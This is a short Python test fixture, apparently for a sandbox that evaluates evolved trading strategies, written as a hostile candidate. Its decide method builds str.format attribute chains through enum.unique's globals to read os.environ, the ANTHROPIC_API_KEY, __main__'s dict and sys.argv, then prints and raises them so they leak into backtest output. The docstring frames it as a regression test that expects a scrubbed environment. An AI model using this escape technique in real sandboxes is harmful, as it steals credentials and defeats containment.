"""Secret read through str.format attribute chains: os.environ and the main module reached from a function of an
allowed module (the globals of `enum.unique`), then printed and raised so they land in the result.

Goal (old evaluator): the parent's ANTHROPIC_API_KEY comes back in `backtest --json`. Expected now: the key is not
in the candidate's process at all (the template was exec'd with a scrubbed environment).
"""
import enum

from nautilus_trader.indicators import ExponentialMovingAverage

from alpha_evolve.strategies.base import EvolvableStrategy

D = "_" * 2


class Candidate(EvolvableStrategy):
    def setup_indicators(self) -> None:
        self.ema = ExponentialMovingAverage(3)

    def decide(self, bar) -> None:
        try:
            key = ("{0." + D + "globals" + D + "[sys].modules[os].environ[ANTHROPIC_API_KEY]}").format(enum.unique)
        except KeyError:
            key = "no key"
        chain = "{0." + D + "globals" + D + "[sys].modules[os].environ}"
        loot = chain.format(enum.unique)
        more = ("{0." + D + "globals" + D + "[sys].modules[" + D + "main" + D + "]." + D + "dict" + D + "}").format(
            enum.unique)
        argv = ("{0." + D + "globals" + D + "[sys].argv}").format(enum.unique)
        print("LOOT", key, loot, more, argv)
        raise ValueError("LOOT " + key + " " + loot + more + argv)
